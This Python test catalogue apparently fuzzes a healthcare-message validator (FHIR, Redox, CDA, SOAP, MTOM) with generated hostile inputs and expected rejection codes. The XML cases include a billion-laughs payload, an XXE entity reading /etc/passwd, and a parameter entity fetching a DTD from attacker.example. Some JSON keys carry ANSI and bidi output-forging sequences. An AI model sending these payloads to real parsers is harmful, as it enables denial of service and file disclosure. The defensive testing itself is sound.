"""The hostile catalogue: payloads an attacker would send, and what must hold for each.

Every case is generated here from a few lines of Python; nothing large is stored in the
repository. A case names what it attacks and what must hold:

- no panic: the exit status is one of `exits` (0, 1 or 2 by default), never 101 or a
  signal;
- the diagnostic `code` (or one of a tuple of codes), if given, appears somewhere in the JSON output (nested
  embedded reports included);
- wall time, peak RSS and output bytes stay under generous bounds (about ten times what
  a correct implementation needs), so only a catastrophe trips them, never machine noise;
- JSON output is valid JSON Lines, and no output stream carries a raw control character
  other than the line feed that ends a line.

Adding a case is one call:

    case("json-example", "what it attacks", lambda: b"{...}", code="JSON_SYNTAX_ERROR")

Options: `args` (extra `triage validate` arguments), `name` (the file name to write, bytes
allowed), `exits`, `time_s`, `rss_mb`, `out_max` (bytes), `human` (also run with
`--format human`), `config` (TOML text written beside the payload and passed with
`--config`), `pending` (a reason: the case is reported but does not fail the run, for an
attack whose fix is being merged from another branch), `family` (a group for the table).
"""

import base64

CASES = []

MB = 1_000_000


class Case:
    def __init__(self, name, attacks, data, family, code=None, args=(), file_name=None,
                 exits=(0, 1, 2), time_s=None, rss_mb=None, out_max=None, human=False,
                 config=None, pending=None, stdin=False):
        self.name = name
        self.attacks = attacks
        self.make = data
        self.family = family
        self.code = code
        self.args = list(args)
        self.file_name = file_name
        self.exits = tuple(exits)
        self._time_s, self._rss_mb, self._out_max = time_s, rss_mb, out_max
        self.human = human
        self.config = config
        self.pending = pending
        self.stdin = stdin

    def generate(self):
        """Builds the payload (and configuration) and the bounds that follow from its size."""
        data = self.make()
        if isinstance(data, str):
            data = data.encode()
        if callable(self.config):
            self.config = self.config()
        size = len(data)
        # Generous bounds: a correct build needs well under a tenth of each.
        self.time_s = self._time_s if self._time_s is not None else 5.0 + size / MB * 0.5
        self.rss_mb = self._rss_mb if self._rss_mb is not None else 150 + 8 * size / MB
        self.out_max = self._out_max if self._out_max is not None else 3 * size + 2 * MB
        return data


_family = ["misc"]


def family(name):
    _family[0] = name


def case(name, attacks, data, **kw):
    """`data` is a function giving the payload (str or bytes), so nothing is built until
    the case runs."""
    if any(c.name == name for c in CASES):
        raise ValueError(f"duplicate case name {name}")
    fam = _family[0]
    args = list(kw.pop("args", ()))
    if fam in DEFAULT_ARGS and "--traffic" not in args:
        args = DEFAULT_ARGS[fam] + args
    CASES.append(Case(name, attacks, data, fam, args=args, **kw))


# The channel each family's payloads arrive on unless a case says otherwise.
DEFAULT_ARGS = {"json": ["--traffic", "redox-api"]}


# ---------------------------------------------------------------------------------------
# Templates (synthetic; no real person).

ADT = (
    "MSH|^~\\&|REGADT|GOODHEALTH|TRIAGE|EXCHANGE|20240312083015-0500||ADT^A01^ADT_A01|MSG00001|P|2.5.1\r"
    "EVN|A01|20240312083000-0500\r"
    "PID|1||PAT10001^^^GOODHEALTH^MR||TESTPATIENT^ALEX^Q||19800214|F\r"
    "PV1|1|I|W4^401^1^GOODHEALTH\r"
)

REDOX_META = (
    '"Meta":{"DataModel":"PatientAdmin","EventType":"Arrival",'
    '"EventDateTime":"2024-03-12T13:30:15.000Z","Test":true,'
    '"Source":{"ID":"7ce6f387-c33c-417d-8682-81e83628cbd9","Name":"EHR"},'
    '"Destinations":[{"ID":"af394f14-b34a-464f-8d24-895f370af4c9","Name":"X"}]}'
)

SOAP_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" '
    'xmlns:wsa="http://www.w3.org/2005/08/addressing">'
    '<soap:Header><wsa:Action soap:mustUnderstand="true">urn:ihe:iti:2007:CrossGatewayQuery</wsa:Action>'
    '<wsa:MessageID>urn:uuid:5e4c1c3a-9a49-4a8e-8b0c-2f5b9a7d1e02</wsa:MessageID></soap:Header>'
    '<soap:Body>'
)
SOAP_QUERY = (
    '<query:AdhocQueryRequest xmlns:query="urn:oasis:names:tc:ebxml-regrep:xsd:query:3.0" '
    'xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0">'
    '<query:ResponseOption returnComposedObjects="true" returnType="LeafClass"/>'
    '<rim:AdhocQuery id="urn:uuid:14d4debf-8f97-4251-9a74-a90016b0af0d">'
    '<rim:Slot name="$XDSDocumentEntryPatientId"><rim:ValueList><rim:Value>\'P^^^&amp;1.2&amp;ISO\'</rim:Value></rim:ValueList></rim:Slot>'
    '</rim:AdhocQuery></query:AdhocQueryRequest>'
)
SOAP_TAIL = "</soap:Body></soap:Envelope>"
SOAP = SOAP_HEAD + SOAP_QUERY + SOAP_TAIL

CDA_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">'
    '<typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>'
    '<id root="2.16.840.1.113883.19.5" extension="D1"/><code code="34133-9" codeSystem="2.16.840.1.113883.6.1"/>'
    '<effectiveTime value="20240105101500-0500"/>'
)
CDA_TAIL = "</ClinicalDocument>"

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG_SIG = b"\x89PNG\r\n\x1a\n"

RETRIEVE_ACTION = "urn:ihe:iti:2007:CrossGatewayRetrieveResponse"


def mtom(parts, includes, boundary="MIMEBoundary_h", root_id="root@h", body=None):
    """An MTOM package: `parts` is a list of (content id, bytes); `includes` the cids the
    SOAP body references, in order."""
    refs = "".join(
        '<xds:DocumentResponse><xds:HomeCommunityId>urn:oid:1.2.3</xds:HomeCommunityId>'
        '<xds:RepositoryUniqueId>1.2.3.1</xds:RepositoryUniqueId><xds:DocumentUniqueId>1.2.3.1.1</xds:DocumentUniqueId>'
        '<xds:mimeType>application/pdf</xds:mimeType>'
        f'<xds:Document><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:{cid}"/></xds:Document></xds:DocumentResponse>'
        for cid in includes
    )
    if body is None:
        body = (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing">'
            f'<s:Header><a:Action s:mustUnderstand="1">{RETRIEVE_ACTION}</a:Action>'
            '<a:MessageID>urn:uuid:5e4c1c3a-9a49-4a8e-8b0c-2f5b9a7d1e05</a:MessageID>'
            '<a:RelatesTo>urn:uuid:5e4c1c3a-9a49-4a8e-8b0c-2f5b9a7d1e04</a:RelatesTo></s:Header><s:Body>'
            '<xds:RetrieveDocumentSetResponse xmlns:xds="urn:ihe:iti:xds-b:2007" xmlns:rs="urn:oasis:names:tc:ebxml-regrep:xsd:rs:3.0">'
            '<rs:RegistryResponse status="urn:oasis:names:tc:ebxml-regrep:ResponseStatusType:Success"/>'
            f'{refs}</xds:RetrieveDocumentSetResponse></s:Body></s:Envelope>'
        )
    out = [
        f'Content-Type: multipart/related; boundary="{boundary}"; type="application/xop+xml"; '
        f'start="<{root_id}>"; start-info="application/soap+xml"\r\nMIME-Version: 1.0\r\n\r\n'.encode(),
        f"--{boundary}\r\nContent-Type: application/xop+xml; charset=UTF-8; type=\"application/soap+xml\"\r\n"
        f"Content-ID: <{root_id}>\r\n\r\n".encode(),
        body.encode() if isinstance(body, str) else body,
        b"\r\n",
    ]
    for cid, data in parts:
        out.append(
            f"--{boundary}\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: binary\r\n"
            f"Content-ID: <{cid}>\r\n\r\n".encode()
        )
        out.append(data)
        out.append(b"\r\n")
    out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out)


def mllp(message):
    return b"\x0b" + message + b"\x1c\r"


def fhir(body):
    return '{"resourceType":"Patient","id":"h",' + body + "}"


def redox(body):
    return "{" + REDOX_META + "," + body + "}"


def pdf_of(n):
    """A structurally plausible PDF of about n bytes."""
    filler = b"%" + b"x" * 78 + b"\n"
    return PDF[:9] + filler * max(0, (n - len(PDF)) // len(filler)) + PDF[9:]


# ---------------------------------------------------------------------------------------
family("json")

for depth in (1_000, 100_000, 5_000_000):
    case(f"json-array-depth-{depth}", "stack depth of the JSON parser: nested arrays",
         lambda depth=depth: "[" * depth + "]" * depth, code="JSON_DEPTH_EXCEEDED")
case("json-object-depth-1m", "stack depth: nested objects", lambda: '{"a":' * 1_000_000 + "1" + "}" * 1_000_000,
     code="JSON_DEPTH_EXCEEDED")
case("json-depth-unclosed-10m", "unclosed nesting to the end of a 10 MB payload", lambda: "[" * 10_000_000,
     code="JSON_DEPTH_EXCEEDED")
case("redox-6m-1e999", "memory per value: 6 million out-of-range numbers (issue 14)",
     lambda: redox('"Patient":{"Notes":[' + ",".join(["1e999"] * 6_000_000) + "]}"),
     rss_mb=400)
case("json-8m-zeros", "memory per value: 8 million one-digit numbers in a plain JSON array",
     lambda: "[" + ",".join(["0"] * 8_000_000) + "]", rss_mb=400)
case("json-4m-empty-objects", "memory per value: 4 million empty objects",
     lambda: "[" + ",".join(["{}"] * 4_000_000) + "]", rss_mb=400)
case("json-2m-keys", "one object with 2 million distinct keys",
     lambda: "{" + ",".join(f'"k{i}":1' for i in range(2_000_000)) + "}", rss_mb=600)
case("json-1m-duplicate-keys", "duplicate-key detection cost: one key repeated a million times",
     lambda: "{" + ",".join(['"k":1'] * 1_000_000) + "}", code="JSON_DUPLICATE_KEY")
case("json-30mb-string", "one 30 MB string", lambda: '{"a":"' + "x" * 30_000_000 + '"}', args=["--traffic", "redox-api"])
case("json-10mb-key", "one 10 MB key", lambda: '{"' + "k" * 10_000_000 + '":1}')
case("json-escapes-5m", "5 million \\u escapes in one string", lambda: '["' + "\\u00e9" * 1_000_000 + '"]')
case("json-lone-surrogate", "an unpaired \\ud800 escape", lambda: '{"a":"\\ud800"}', code="JSON_SYNTAX_ERROR")
case("json-invalid-utf8", "bytes that are not UTF-8 inside a string", lambda: b'{"a":"\xff\xfe\xc0\x80"}',
     code="JSON_INVALID_UTF8")
case("json-overlong-utf8", "an overlong UTF-8 encoding of '/'", lambda: b'{"a":"\xc0\xaf"}', code="JSON_INVALID_UTF8")
case("json-utf16-bom", "a UTF-16 byte order mark", lambda: b"\xff\xfe{\x00}\x00")
case("json-nul-bytes", "1 MB of NUL bytes", lambda: b"\x00" * MB)
case("json-huge-integer", "a 1 MB integer literal", lambda: '{"a":' + "9" * MB + "}")
case("json-huge-exponent", "an exponent of a million digits", lambda: '{"a":1e' + "9" * MB + "}")
case("json-tiny-exponent", "1e-99999 underflow", lambda: '{"a":1e-99999}')
case("json-minus-zero", "-0 and -0.0e-0", lambda: '{"a":-0,"b":-0.0e-0}')
for i, cut in enumerate((1, 10, 30, 60, 100, 140, 180, 220)):
    text = redox('"Patient":{"Demographics":{"FirstName":"A","DOB":"1980-02-14"}}')
    case(f"redox-truncated-at-{cut}", "a Redox message cut short at byte " + str(cut), lambda text=text, cut=cut: text[:cut],
         args=["--traffic", "redox-api"], code="JSON_SYNTAX_ERROR")
case("json-trailing-garbage", "a valid object followed by 1 MB of garbage", lambda: "{}" + "x" * MB, code="JSON_SYNTAX_ERROR")
case("json-key-ansi-newline", "a key holding escaped newlines and ANSI codes that would forge a 'valid' line",
     lambda: fhir('"\\n\\u001b[32mvalid\\u001b[0m\\r\\n":1'), code="FHIR_UNKNOWN_ELEMENT", human=True)
case("json-key-raw-control", "a key holding raw (unescaped) newline and ESC bytes",
     lambda: fhir('"\n\x1b[32mvalid\x1b[0m\r\n":1'), code="JSON_SYNTAX_ERROR", human=True)
case("json-key-bidi", "a key holding bidirectional overrides", lambda: fhir('"\u202etxt.exe\u2066":1'),
     code="FHIR_UNKNOWN_ELEMENT", human=True)
case("json-key-escaped-controls", "a key holding \\u001b and \\u0000 escapes",
     lambda: fhir('"\\u001b[2J\\u0000":1'), code="FHIR_UNKNOWN_ELEMENT", human=True)
long_keys = "".join('{"' + "k" * 1000 + str(i) + '":' for i in range(254))
case("json-254-nested-1000-char-keys-1000-bad-dates",
     "report size: long names nested 254 deep above 1,000 bad timestamps (issue 14)",
     lambda: fhir('"extension":[' + long_keys + '{"birthDate":[' + ",".join(['"1980-13-45"'] * 1000) + "]}"
          + "}" * 254 + "]"), out_max=4 * MB, code="JSON_DEPTH_EXCEEDED")
case("fhir-birthdate-under-long-key", "report size: 1000 bad dates, each under a 10 KB key path",
     lambda: '{"resourceType":"Bundle","type":"collection","entry":['
     + ",".join('{"resource":{"resourceType":"Patient","birthDate":"1980-13-45","' + "z" * 10_000 + str(i) + '":1}}'
                for i in range(1000)) + "]}", code="DATETIME_INVALID_DATE")
events = ",".join(['"2024"'] * 5_500_000)
case("fhir-timing-5.5m-datetimes", "memory and report size: 5.5 million datetimes (issue 14)",
     lambda: '{"resourceType":"MedicationRequest","status":"active","intent":"order","subject":{"reference":"Patient/1"},'
     '"dosageInstruction":[{"timing":{"event":[' + events + "]}}]}",
     code="DATETIMES_TRUNCATED", rss_mb=500)
case("fhir-1m-bad-datetimes", "a million invalid datetimes: diagnostics past the bound are counted",
     lambda: '{"resourceType":"MedicationRequest","status":"active","intent":"order","subject":{"reference":"Patient/1"},'
     '"dosageInstruction":[{"timing":{"event":[' + ",".join(['"2024-13"'] * 1_000_000) + "]}}]}",
     code="DIAGNOSTICS_TRUNCATED", rss_mb=400)
case("fhir-resource-type-1mb", "a 1 MB resourceType", lambda: '{"resourceType":"' + "P" * MB + '"}',
     code="FHIR_RESOURCE_TYPE_UNKNOWN")
case("fhir-resource-type-missing", "a FHIR-looking object without resourceType", lambda: '{"id":"x","meta":{}}',
     args=["--traffic", "redox-api"])
case("fhir-contained-depth", "contained resources nested 5,000 deep",
     lambda: '{"resourceType":"Patient","contained":[' * 5000 + "]}" * 5000, code="JSON_DEPTH_EXCEEDED")
case("fhir-100k-unknown-elements", "100,000 unknown elements", lambda: fhir(",".join(f'"x{i}":1' for i in range(100_000))),
     code="DIAGNOSTICS_TRUNCATED")
case("fhir-wrong-types", "every primitive given the wrong JSON type",
     lambda: '{"resourceType":"Patient","active":"yes","birthDate":19800214,"gender":[1],"name":"x"}',
     code="FHIR_TYPE_MISMATCH")
case("fhir-invalid-dates-mixed", "dates with impossible fields", lambda: fhir('"birthDate":"2023-02-30"'),
     code="DATETIME_INVALID_DATE")
case("fhir-offset-out-of-range", "an offset beyond 14 hours",
     lambda: '{"resourceType":"Observation","status":"final","code":{"text":"x"},"effectiveDateTime":"2024-01-01T00:00:00+23:59"}',
     code="DATETIME_OFFSET_OUT_OF_RANGE")
case("fhir-year-0000", "year zero and year 9999 with a negative offset",
     lambda: '{"resourceType":"Observation","status":"final","code":{"text":"x"},"effectiveDateTime":"9999-12-31T23:59:59-14:00","issued":"0000-01-01T00:00:00Z"}')
case("fhir-fraction-1mb", "a datetime with a 1 MB fraction",
     lambda: '{"resourceType":"Observation","status":"final","code":{"text":"x"},"effectiveDateTime":"2024-01-01T00:00:00.' + "1" * MB + 'Z"}',
     code="DATETIME_FRACTION_TOO_LONG")
att = base64.b64encode(PDF).decode()


def bundle_with(attachments):
    docs = ",".join(
        '{"resource":{"resourceType":"DocumentReference","status":"current","content":[{"attachment":{"contentType":"application/pdf","data":"'
        + a + '"}}]}}' for a in attachments)
    return '{"resourceType":"Bundle","type":"collection","entry":[' + docs + "]}"


case("fhir-attachment-repeated-1000", "one attachment repeated 1000 times is validated once",
     lambda: bundle_with([att] * 1000), code="EMBEDDED_FILE_REPEATED")
case("fhir-attachment-count-1000", "1000 distinct attachments: the embedded count bound",
     lambda: bundle_with([base64.b64encode(PDF + str(i).encode()).decode() for i in range(1000)]),
     code="EMBEDDED_COUNT_EXCEEDED")
case("fhir-attachment-bad-base64", "base64 with characters outside the alphabet",
     lambda: bundle_with(["JVBER!!!i0xLjQK" * 100]), code="FHIR_PRIMITIVE_INVALID")
case("fhir-attachment-base64-10mb-over", "an attachment whose decoded size is over the embedded limit",
     lambda: bundle_with(["A" * 13_400_000]), code="SIZE_LIMIT_EXCEEDED")
case("fhir-attachment-base64-whitespace", "base64 broken by 1 MB of line feeds",
     lambda: bundle_with(["\\n" * 500_000 + att]))


def nest_fhir(inner, levels):
    for _ in range(levels):
        inner = bundle_with([base64.b64encode(inner.encode()).decode()]).replace(
            '"contentType":"application/pdf"', '"contentType":"application/fhir+json"')
    return inner


case("fhir-attachment-nested-8", "attachments nested 8 deep: the embedded depth bound",
     lambda: nest_fhir(fhir('"birthDate":"1980-01-01"'), 8), code="EMBEDDED_DEPTH_EXCEEDED")
case("redox-meta-not-object", "Meta of the wrong type", lambda: '{"Meta":[1,2,3],"Patient":{}}', args=["--traffic", "redox-api"],
     code=("REDOX_META_INVALID", "REDOX_META_MISSING"))
case("redox-destinations-100k", "100,000 destinations", lambda: redox('"x":1').replace(
    '"Destinations":[{"ID":"af394f14-b34a-464f-8d24-895f370af4c9","Name":"X"}]',
    '"Destinations":[' + ",".join(['{"ID":"x","Name":"X"}'] * 100_000) + "]"))
case("redox-datamodel-1mb", "a 1 MB DataModel name", lambda: redox('"x":1').replace('"PatientAdmin"', '"' + "Q" * MB + '"'),
     code="REDOX_DATA_MODEL_UNKNOWN")
case("redox-deep-patient", "Patient nested 100,000 deep", lambda: redox('"Patient":' + '{"a":' * 100_000 + "1" + "}" * 100_000),
     code="JSON_DEPTH_EXCEEDED")
case("ndjson-200k-lines", "an NDJSON file of 200,000 small messages",
     lambda: "\n".join([fhir('"birthDate":"1980-01-01"')] * 200_000) + "\n", out_max=400 * MB, time_s=60,
     )
case("ndjson-blank-lines", "1 MB of blank lines between two messages",
     lambda: fhir("") + "\n" * MB + fhir(""))
case("json-number-forms", "numbers in every odd form", lambda: '{"a":[01,1.,.1,+1,1e,--1,0x10,NaN,Infinity]}',
     code="JSON_SYNTAX_ERROR")

# ---------------------------------------------------------------------------------------
family("xml")


def ns_scopes(scopes, per, elements):
    opens = "".join(
        "<s" + "".join(f' xmlns:p{i}_{j}="urn:x:{i}:{j}"' for j in range(per)) + ">" for i in range(scopes))
    body = "<p0_0:e/>" * elements
    return "<root>" + opens + body + "</s>" * scopes + "</root>"


case("xml-namespace-scopes-250x250", "namespace lookup cost: 250 nested scopes of 250 declarations, 100,000 elements (issue 14)",
     lambda: ns_scopes(250, 250, 100_000), args=["--traffic", "other"], time_s=10)
case("xml-namespace-scopes-250x250-40mb", "the same at the 40 MB limit", lambda: ns_scopes(250, 250, 3_900_000),
     args=["--traffic", "carequality"], time_s=30)
case("xml-namespace-shadowing", "one prefix redeclared at each of 10,000 levels",
     lambda: "".join(f'<a xmlns:p="urn:{i}">' for i in range(10_000)) + "<p:b/>" * 100_000 + "</a>" * 10_000)
case("xml-billion-laughs", "entity expansion",
     lambda: '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
     '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;&c;&c;</l>', code="XML_DOCTYPE_REJECTED")
case("xml-xxe-file", "external entity reading a local file",
     lambda: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', code="XML_DOCTYPE_REJECTED")
case("xml-xxe-parameter", "parameter entity to a remote DTD",
     lambda: '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]><r/>', code="XML_DOCTYPE_REJECTED")
case("xml-doctype-after-40mb-comment", "a DOCTYPE hidden after a large comment",
     lambda: "<!--" + "x" * 9_000_000 + "--><!DOCTYPE r><r/>", code="XML_DOCTYPE_REJECTED")
case("xml-undefined-entity", "a reference to an undeclared entity", lambda: "<r>&nbsp;</r>", code="XML_ENTITY_REJECTED")
case("xml-depth-100k", "stack depth: 100,000 nested elements", lambda: "<a>" * 100_000 + "</a>" * 100_000,
     code="XML_DEPTH_EXCEEDED")
case("xml-depth-unclosed-3m", "3 million unclosed elements", lambda: "<a>" * 3_000_000, code="XML_DEPTH_EXCEEDED")
case("xml-elements-4.1m", "4.1 million sibling elements", lambda: "<r>" + "<a/>" * 4_100_000 + "</r>", args=["--traffic", "carequality"],
     code="XML_ELEMENT_COUNT_EXCEEDED")
case("xml-attributes-100k", "100,000 attributes on one element",
     lambda: "<r " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>", code="XML_ATTRIBUTE_COUNT_EXCEEDED")
case("xml-attribute-9mb", "one 9 MB attribute value", lambda: '<r a="' + "x" * 9_000_000 + '"/>', code="XML_ATTRIBUTE_TOO_LONG")
case("xml-text-17mb", "one 17 MB text node", lambda: "<r>" + "x" * 17_000_000 + "</r>", args=["--traffic", "carequality"],
     code="XML_TEXT_TOO_LONG")
case("xml-name-1mb", "one 1 MB element name", lambda: "<" + "n" * MB + "/>", code="XML_NAME_TOO_LONG")
case("xml-attribute-name-1mb", "one 1 MB attribute name", lambda: "<r " + "n" * MB + '="1"/>', code="XML_NAME_TOO_LONG")
case("xml-duplicate-attribute-ns", "the same expanded name twice through two prefixes",
     lambda: "<a xmlns:p='urn:x' xmlns:q='urn:x' p:x='1' q:x='2'/>", code="XML_DUPLICATE_ATTRIBUTE")
case("xml-duplicate-attribute-200", "200 attributes with one duplicate at the end",
     lambda: "<r " + " ".join(f'a{i}="1"' for i in range(200)) + ' a0="2"/>', code="XML_DUPLICATE_ATTRIBUTE")
case("xml-unbound-prefix", "an element prefix never declared", lambda: "<p:r/>", code="XML_UNBOUND_PREFIX")
case("xml-undeclare-prefix", "xmlns:p='' (not allowed in XML 1.0 namespaces)", lambda: "<r xmlns:p='urn:x'><a xmlns:p=''/></r>",
     code="XML_NOT_WELL_FORMED")
case("xml-control-char", "a C0 control character in text", lambda: "<r>\x01</r>", code="XML_INVALID_CHARACTER")
case("xml-char-ref-nul", "&#0; character reference", lambda: "<r>&#0;</r>", code="XML_INVALID_CHARACTER")
case("xml-char-ref-surrogate", "&#xD800; character reference", lambda: "<r>&#xD800;</r>",
     code=("XML_INVALID_CHARACTER", "XML_NOT_WELL_FORMED"))
case("xml-char-ref-huge", "&#99999999999999999999; character reference", lambda: "<r>&#99999999999999999999;</r>")
case("xml-char-refs-2m", "2 million character references", lambda: "<r>" + "&#x41;" * 2_000_000 + "</r>")
case("xml-utf16", "a UTF-16 document with an external-entity DOCTYPE (read, and refused as in UTF-8)",
     lambda: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode("utf-16"),
     code="XML_DOCTYPE_REJECTED")
case("xml-encoding-ebcdic", "a declared encoding other than UTF-8", lambda: '<?xml version="1.0" encoding="EBCDIC-US"?><r/>',
     code="XML_ENCODING_UNSUPPORTED")
case("xml-no-root", "a document with only a comment", lambda: "<!-- nothing -->", code="XML_ROOT_MISSING")
case("xml-two-roots", "two root elements", lambda: "<a/><b/>", code="XML_ROOT_MULTIPLE")
case("xml-text-after-root", "text after the root element", lambda: "<a/>junk", code="XML_CONTENT_OUTSIDE_ROOT")
case("xml-unclosed", "elements left open", lambda: "<a><b><c>", code="XML_UNCLOSED_ELEMENT")
case("xml-mismatched-end", "an end tag that does not match", lambda: "<a></b>", code="XML_NOT_WELL_FORMED")
case("xml-cdata-unclosed-9mb", "an unclosed CDATA section", lambda: "<r><![CDATA[" + "x" * 9_000_000, code="XML_NOT_WELL_FORMED")
case("xml-comment-double-dash", "-- inside a comment", lambda: "<r><!-- a -- b --></r>", code="XML_NOT_WELL_FORMED")
case("xml-pi-flood", "1 million processing instructions", lambda: "<r>" + "<?p x?>" * 1_000_000 + "</r>")
case("xml-pi-xml-reserved", "a processing instruction named xml in the body", lambda: "<r><?xml version='1.0'?></r>",
     code="XML_NOT_WELL_FORMED")
case("xml-comments-1m", "a million comments", lambda: "<r>" + "<!--c-->" * 1_000_000 + "</r>")
case("xml-whitespace-9mb", "9 MB of white space before the root", lambda: " " * 9_000_000 + "<r/>")
case("xml-lt-in-attribute", "< inside an attribute value", lambda: "<r a='<'/>", code="XML_NOT_WELL_FORMED")
case("xml-name-ansi-in-attribute", "an attribute value holding ANSI codes and newlines",
     lambda: SOAP.replace("LeafClass", "\x1b[31m\n\r"), human=True)
# 252 long names under ClinicalDocument/component: the document stays within the
# reader's depth bound (256), so every timestamp is reached.
xml_long = "".join("<" + "n" * 1000 + str(i) + ">" for i in range(252))
xml_long_end = "".join("</" + "n" * 1000 + str(i) + ">" for i in reversed(range(252)))
case("xml-254-nested-1000-char-names-1000-bad-times",
     "report size: long names nested 254 deep above 1,000 bad timestamps (issue 14)",
     lambda: CDA_HEAD.replace('<ClinicalDocument ', '<ClinicalDocument xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ')
     + "<component>" + xml_long + '<value xsi:type="TS" value="2024133"/>' * 1000 + xml_long_end + "</component>"
     + CDA_TAIL, out_max=4 * MB)
case("cda-1m-bad-times", "a million bad CDA timestamps", lambda: CDA_HEAD + '<effectiveTime value="2024133"/>' * 1_000_000 + CDA_TAIL,
     rss_mb=400)
case("cda-wrong-namespace", "a ClinicalDocument outside urn:hl7-org:v3",
     lambda: CDA_HEAD.replace("urn:hl7-org:v3", "urn:evil") + CDA_TAIL, code="CDA_NAMESPACE_INVALID")
case("soap-no-envelope", "a Carequality payload that is not a SOAP envelope", lambda: "<r/>", args=["--traffic", "carequality"],
     code="SOAP_ENVELOPE_MISSING")
case("soap-11", "a SOAP 1.1 envelope", lambda: SOAP.replace("http://www.w3.org/2003/05/soap-envelope",
                                                    "http://schemas.xmlsoap.org/soap/envelope/"),
     code="SOAP_VERSION_UNSUPPORTED")
case("soap-empty-body", "an empty SOAP body", lambda: SOAP_HEAD + SOAP_TAIL, code="SOAP_BODY_EMPTY")
case("soap-100k-body-children", "100,000 children of the SOAP body", lambda: SOAP_HEAD + SOAP_QUERY * 20_000 + SOAP_TAIL,
     code="SOAP_BODY_MULTIPLE_CHILDREN")
case("soap-action-1mb", "a 1 MB WS-Addressing action", lambda: SOAP.replace("urn:ihe:iti:2007:CrossGatewayQuery", "u" * MB),
     code="IHE_ACTION_UNKNOWN")
case("soap-action-missing", "no WS-Addressing action", lambda: SOAP.replace(
    '<wsa:Action soap:mustUnderstand="true">urn:ihe:iti:2007:CrossGatewayQuery</wsa:Action>', ""),
     code="IHE_ACTION_MISSING")
case("soap-header-10k-actions", "10,000 Action headers", lambda: SOAP.replace(
    "<soap:Header>", "<soap:Header>" + '<wsa:Action>urn:ihe:iti:2007:CrossGatewayQuery</wsa:Action>' * 10_000),
     code=("IHE_ELEMENT_REPEATED", "IHE_ELEMENT_MISSING"))
case("soap-fault-deep", "a Fault nested with 10,000 Subcodes", lambda: SOAP_HEAD + "<soap:Fault><soap:Code><soap:Value>soap:Sender</soap:Value>"
     + "<soap:Subcode><soap:Value>x</soap:Value>" * 10_000 + "</soap:Subcode>" * 10_000 + "</soap:Code></soap:Fault>" + SOAP_TAIL,
     code="XML_DEPTH_EXCEEDED")
case("soap-bom-then-utf16", "a UTF-8 BOM followed by UTF-16", lambda: b"\xef\xbb\xbf" + "<r/>".encode("utf-16-le"))

# ---------------------------------------------------------------------------------------
family("mtom")

big_part = pdf_of(9_900_000)
case("mtom-part-included-256-times", "one 9.9 MB part referenced by 256 xop:Includes (issue 14)",
     lambda: mtom([("doc@h", big_part)], ["doc@h"] * 256), code="EMBEDDED_FILE_REPEATED", out_max=4 * MB)
case("mtom-part-included-10000-times", "one part referenced 10,000 times",
     lambda: mtom([("doc@h", PDF)], ["doc@h"] * 10_000), code="EMBEDDED_FILE_REPEATED")
case("mtom-200-identical-parts", "200 parts with the same bytes under different ids",
     lambda: mtom([(f"d{i}@h", PDF) for i in range(200)], [f"d{i}@h" for i in range(200)]), code="EMBEDDED_FILE_REPEATED")
case("mtom-1000-distinct-parts", "1000 distinct parts: the part bound (embedded count + 1)",
     lambda: mtom([(f"d{i}@h", PDF + str(i).encode()) for i in range(1000)], [f"d{i}@h" for i in range(1000)]),
     code="SOAP_MTOM_MALFORMED")
case("mtom-200-unreferenced-parts", "200 parts nothing references",
     lambda: mtom([(f"d{i}@h", PDF) for i in range(200)], []), code="SOAP_MTOM_PART_UNREFERENCED")
case("mtom-10000-unreferenced-parts", "10,000 parts nothing references: the part bound",
     lambda: mtom([(f"d{i}@h", PDF) for i in range(10_000)], []), code="SOAP_MTOM_MALFORMED")
case("mtom-include-unresolved", "an include naming no part", lambda: mtom([], ["nothing@h"]), code="SOAP_XOP_INCLUDE_UNRESOLVED")
case("mtom-include-cid-1mb", "an include with a 1 MB content id", lambda: mtom([], ["c" * MB]))
case("mtom-root-missing", "start names no part", lambda: mtom([], [], root_id="root@h").replace(b'start="<root@h>"', b'start="<other@h>"'),
     code="SOAP_MTOM_ROOT_MISSING")
case("mtom-root-not-xop", "the root part is not application/xop+xml",
     lambda: mtom([], []).replace(b"Content-Type: application/xop+xml; charset=UTF-8", b"Content-Type: text/plain"),
     code="SOAP_MTOM_ROOT_TYPE")
case("mtom-no-closing-boundary", "a package whose last boundary never comes", lambda: mtom([("d@h", PDF)], ["d@h"])[:-20],
     code="SOAP_MTOM_MALFORMED")
case("mtom-boundary-1000-chars", "a boundary longer than RFC 2046 allows", lambda: mtom([], [], boundary="b" * 1000),
     code="SOAP_MTOM_MALFORMED")
case("mtom-boundary-missing", "multipart without a boundary parameter",
     lambda: mtom([], []).replace(b'boundary="MIMEBoundary_h"; ', b""), code="SOAP_MTOM_MALFORMED")
case("mtom-header-flood", "100,000 header lines in one part",
     lambda: mtom([], []).replace(b"Content-ID: <root@h>\r\n", b"Content-ID: <root@h>\r\n" + b"X-H: v\r\n" * 100_000))
